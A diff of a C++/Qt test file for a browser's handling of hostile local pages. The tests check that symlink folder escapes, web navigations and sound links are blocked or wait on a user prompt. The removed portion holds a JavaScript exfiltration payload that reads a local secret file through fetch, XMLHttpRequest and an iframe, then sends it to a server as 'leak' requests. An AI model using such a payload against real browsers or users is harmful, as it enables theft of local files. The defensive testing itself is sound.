@@ -1,35 +1,36 @@
 // Hostile pages against the real engine and a web server on 127.0.0.1: a local
-// page reads no other local file, a page alone starts no player, addresses from
-// stored settings run no script, and what a sound link serves is checked
-// before the player gets it. The player is a stand-in started through the
+// page reads no other local file and reaches the web only when the user says
+// so, a page alone starts no player, addresses from stored settings run no
+// script, and what a sound link serves is checked before the player gets it. The player is a stand-in started through the
 // launcher, which notes each start in a file.
 #include "tests/support/QTestHomeMain.h"
 #include "tests/support/SaveShot.h"
 #include "browser/handoff/CPlayerLauncher.h"
+#include "browser/window/CLocalReadGuard.h"
 #include "browser/window/CMainFrame.h"
+#include "browser/window/COpenAddressDlg.h"
 #include "browser/window/CVelmoraView.h"
 #include "tests/browser/handoff/TestSoundServer.h"
 #include "tests/browser/window/PageInput.h"
+#include "tests/support/WhenModal.h"
 
 #include "browser/startup/CVelmoraApp.h"
 #include "browser/startup/VelmoraPaths.h"
 
 #include <QComboBox>
+#include <QDialogButtonBox>
+#include <QDir>
+#include <QPushButton>
 #include <QImage>
 #include <QSignalSpy>
 #include <QStatusBar>
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <algorithm>
 #include <memory>
 
 using namespace velmora;
-
-namespace {
-
-const char* const kSecret = "SECRET-7391-of-the-user";
-
-}  // namespace
 
 class TestHostilePages : public QObject {
     Q_OBJECT
@@ -57,10 +58,6 @@ const timer = setInterval(() => {
 </script></body></html>)");
         WriteTestFile(m_web.filePath("next.htm"), "<html><body onload=\"location.href = 'clip.wav?next'\">next</body></html>");
         WriteTestFile(m_web.filePath("plain.htm"), "<html><head><title>Plain</title></head><body>plain</body></html>");
-        WriteTestFile(m_local.filePath("secret.txt"), kSecret);
-        QImage picture(40, 30, QImage::Format_RGB32);
-        picture.fill(Qt::darkGreen);
-        QVERIFY(picture.save(m_local.filePath("picture.png")));
         m_pServer = std::make_unique<CTestSoundServer>(m_web.path());
         QVERIFY2(m_pServer->Port() > 0, "the test web server did not start");
         // The stand-in player notes the file it was started on.
@@ -77,46 +74,110 @@ const timer = setInterval(() => {
         m_pFrame = std::make_unique<CMainFrame>();
         m_pFrame->resize(900, 600);
         m_pFrame->show();
-        View()->SetPlayerStarter([this](const QString& strPath) {
+        View()->SetPlayerStarter([this](const QStringList& arguments) {
             ++m_nStarts;
-            return CPlayerLauncher(m_player.path(), QString()).Start(strPath);
+            return CPlayerLauncher(m_player.path(), QString()).Start(arguments);
         });
     }
 
     void cleanup() { m_pFrame.reset(); }
 
-    void localPageReadsNoOtherFile()
+    void localPageShowsItsFolderAndReadsNothing()
     {
-        // Every way a local page's script could read a file beside it and send
-        // it out: fetch, XMLHttpRequest, a frame; then an image, a fetch and a
-        // sound link to the server carry whatever it got.
-        const QString strSecret = QUrl::fromLocalFile(m_local.filePath("secret.txt")).toString();
-        const QString strPage = QStringLiteral(R"(<html><body><img id="pic" src="picture.png"><script>
-const server = '%1';
-const secret = '%2';
-function image(u) { return new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = u; }); }
-async function byFetch() { try { return await (await fetch(secret)).text(); } catch (e) { return ''; } }
-function byRequest() { return new Promise(r => { try { const x = new XMLHttpRequest(); x.open('GET', secret);
-  x.onload = () => r(x.responseText); x.onerror = () => r(''); x.send(); } catch (e) { r(''); } }); }
-function byFrame() { return new Promise(r => { const f = document.createElement('iframe'); f.src = secret;
-  f.onload = () => { try { r(f.contentDocument.body.innerText); } catch (e) { r(''); } }; document.body.appendChild(f); }); }
-window.onload = async () => {
-  const text = encodeURIComponent((await byFetch()) + '|' + (await byRequest()) + '|' + (await byFrame()));
-  await image(server + 'leak-image?' + text);
-  try { await fetch(server + 'leak-fetch?' + text, {mode: 'no-cors'}); } catch (e) {}
-  document.title = 'picture ' + document.getElementById('pic').naturalWidth + ' read ' + text;
-  location.href = server + 'clip.wav?leak=' + text;
-};
-</script></body></html>)")
-                                    .arg(m_pServer->Url(QString()), strSecret);
-        WriteTestFile(m_local.filePath("page.htm"), strPage.toUtf8());
-        View()->NavigateUrl(QUrl::fromLocalFile(m_local.filePath("page.htm")));
-        // The sound link is the last thing the page tries: refused, and said.
-        QTRY_VERIFY_WITH_TIMEOUT(StatusText().contains("clip.wav?leak="), 60000);
-        // Its own picture shows; it read nothing, and nothing reached the server.
-        QCOMPARE(View()->title(), QString("picture 40 read %7C%7C"));
+        // site/page.htm with its own picture, style and sound, the same through
+        // site/lnk (a link to a folder outside), and a script that would read them.
+        const qsizetype nServed = m_pServer->Requests().size();
+        const QString strSite = m_local.filePath("site");
+        QVERIFY(QDir().mkpath(strSite));
+        QVERIFY(QFile::link(m_local.path(), strSite + "/lnk"));
+        QImage picture(40, 30, QImage::Format_RGB32);
+        picture.fill(Qt::darkGreen);
+        for (const QString& strFolder : {strSite, m_local.path()}) {
+            QVERIFY(picture.save(strFolder + "/picture.png"));
+            WriteTestFile(strFolder + "/style.css", "p { color: rgb(1, 2, 3); }");
+            WriteTestFile(strFolder + "/script.js", "document.title = 'script ran';");
+            WriteTestFile(strFolder + "/sound.wav", ServedWav(16000, 3));
+        }
+        WriteTestFile(strSite + "/page.htm", R"(<html><head><title>Local</title>
+<link rel="stylesheet" href="style.css"><link rel="stylesheet" href="lnk/style.css"></head><body>
+<p id="own">own</p><img id="pic" src="picture.png"><img id="lnkpic" src="lnk/picture.png">
+<audio id="snd" preload="auto" src="sound.wav"></audio><audio id="lnksnd" preload="auto" src="lnk/sound.wav"></audio>
+<script src="lnk/script.js"></script><script>document.title = 'inline ran';</script></body></html>)");
+        // The link's stylesheet would paint the paragraph, were it read.
+        WriteTestFile(m_local.filePath("style.css"), "p { color: rgb(200, 0, 0) !important; }");
+        const QUrl page = QUrl::fromLocalFile(strSite + "/page.htm");
+        View()->NavigateUrl(page);
+        QTRY_VERIFY_WITH_TIMEOUT(PageScriptResult(View(), "document.images.length == 2 && Array.from(document.images)"
+                                                          ".every(i => i.complete) && Array.from(document.querySelectorAll"
+                                                          "('audio')).every(a => a.readyState > 0 || a.error)").toBool(),
+                                 60000);
+        QCOMPARE(PageScriptResult(View(), "[pic.naturalWidth, lnkpic.naturalWidth, getComputedStyle(own).color,"
+                                          " isNaN(snd.duration), lnksnd.error != null, document.title].join()")
+                     .toString(),
+                 QString("40,0,rgb(1, 2, 3),false,true,Local"));
         testsupport::SaveShot(m_pFrame->grab(), "local-page.png");
-        QVERIFY2(m_pServer->Requests().isEmpty(), qPrintable(m_pServer->Requests().join("|")));
+
+        // What the engine asks for is decided on real paths; a local page gets
+        // nothing from another machine, not even a socket.
+        for (const auto type : {QWebEngineUrlRequestInfo::ResourceTypeScript, QWebEngineUrlRequestInfo::ResourceTypeImage,
+                                QWebEngineUrlRequestInfo::ResourceTypeStylesheet, QWebEngineUrlRequestInfo::ResourceTypeMedia}) {
+            QVERIFY(CLocalReadGuard::IsAllowed(QUrl::fromLocalFile(strSite + "/script.js"), type, page));
+            QVERIFY(!CLocalReadGuard::IsAllowed(QUrl::fromLocalFile(strSite + "/lnk/script.js"), type, page));
+        }
+        QVERIFY(!CLocalReadGuard::IsAllowed(QUrl(m_pServer->Url("x").replace("http", "ws")),
+                                            QWebEngineUrlRequestInfo::ResourceTypeWebSocket, page));
+        QVERIFY(CLocalReadGuard::IsAllowed(QUrl(m_pServer->Url("x").replace("http", "ws")),
+                                           QWebEngineUrlRequestInfo::ResourceTypeWebSocket, QUrl(m_pServer->Url("p.htm"))));
+        QCOMPARE(m_pServer->Requests().size(), nServed);
+    }
+
+    void localPageReachesTheWebOnlyAfterTheUserSaysSo()
+    {
+        // A click on a web sound plays nothing and asks nothing; every other
+        // way a local page has to the web (a link, a form, a new window, a
+        // refresh) waits on the question, whose Cancel keeps the page.
+        const qsizetype nServed = m_pServer->Requests().size();
+        const QString strSound = m_pServer->Url("clip.wav?q=1"), strPage = m_pServer->Url("plain.htm?q=1");
+        WriteTestFile(m_local.filePath("away.htm"), QStringLiteral(R"(<html><head><title>Away</title></head><body>
+<p><a id="sound" href="%1">a sound</a> <a id="page" href="%2">a page</a> <a id="blank" href="%2" target="_blank">new</a>
+<button id="scripted" onclick="document.title = 'ran'; location.href = '%1&leak'">scripted</button></p>
+<form action="%3"><input type="hidden" name="q" value="1"><button id="form">send</button></form></body></html>)")
+                                                      .arg(strSound, strPage, m_pServer->Url("plain.htm"))
+                                                      .toUtf8());
+        WriteTestFile(m_local.filePath("refresh.htm"), QStringLiteral("<html><head><meta http-equiv=\"refresh\" "
+                                                                      "content=\"0; url=%1\"></head></html>").arg(strPage).toUtf8());
+        LoadLocal("away.htm");
+        QVERIFY(ClickElementById(View(), "scripted"));  // the page's script does not run
+        QVERIFY(ClickElementById(View(), "sound"));
+        QTRY_COMPARE_WITH_TIMEOUT(StatusText(), "Not played: " + strSound + " (a page on this computer asked for a sound on the web)", 60000);
+        QCOMPARE(View()->title(), QString("Away"));
+
+        for (const char* szWay : {"page", "form", "blank", "refresh"}) {
+            QString strAsked;
+            testsupport::WhenModal<COpenAddressDlg>(this, [&](COpenAddressDlg* pDialog) {
+                strAsked = pDialog->Text();
+                testsupport::SaveShot(pDialog->grab(), "open-address.png");
+                pDialog->findChild<QDialogButtonBox*>()->button(QDialogButtonBox::Cancel)->click();
+            });
+            if (qstrcmp(szWay, "refresh") == 0)
+                LoadLocal("refresh.htm");
+            else
+                QVERIFY(ClickElementById(View(), szWay));
+            QTRY_VERIFY2_WITH_TIMEOUT(!strAsked.isEmpty(), szWay, 60000);
+            QCOMPARE(strAsked, "A page on this computer wants to open " + strPage + ". Open it?");
+            QVERIFY2(View()->url().isLocalFile(), szWay);
+        }
+        QVERIFY2(m_pServer->Requests().size() == nServed, qPrintable(m_pServer->Requests().join("|")));
+        QCOMPARE(m_nStarts, 0);
+
+        // Open loads it, as the browser's own load.
+        testsupport::WhenModal<COpenAddressDlg>(this, [](COpenAddressDlg* pDialog) {
+            pDialog->findChild<QDialogButtonBox*>()->button(QDialogButtonBox::Open)->click();
+        });
+        LoadLocal("away.htm");
+        QVERIFY(ClickElementById(View(), "page"));
+        QTRY_COMPARE_WITH_TIMEOUT(View()->title(), QString("Plain"), 60000);
+        QCOMPARE(m_pServer->Requests().value(nServed), QString("/plain.htm?q=1"));  // then perhaps its icon
         QCOMPARE(m_nStarts, 0);
     }
 
@@ -192,6 +253,16 @@ private:
     QStringList Starts() const
     {
         return QString::fromUtf8(ReadTestFile(m_player.filePath("starts"))).split('\n', Qt::SkipEmptyParts);
+    }
+    // Loads a page of the user's files (a page that goes on to a refused
+    // navigation ends with a failed load after its own).
+    void LoadLocal(const QString& strName)
+    {
+        QSignalSpy loaded(View(), &QWebEngineView::loadFinished);
+        View()->NavigateUrl(QUrl::fromLocalFile(m_local.filePath(strName)));
+        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(loaded.cbegin(), loaded.cend(), [](const QList<QVariant>& args) {
+                                     return args.first().toBool();
+                                 }), 60000);
     }
     void LoadPage(const QString& strPath)
     {
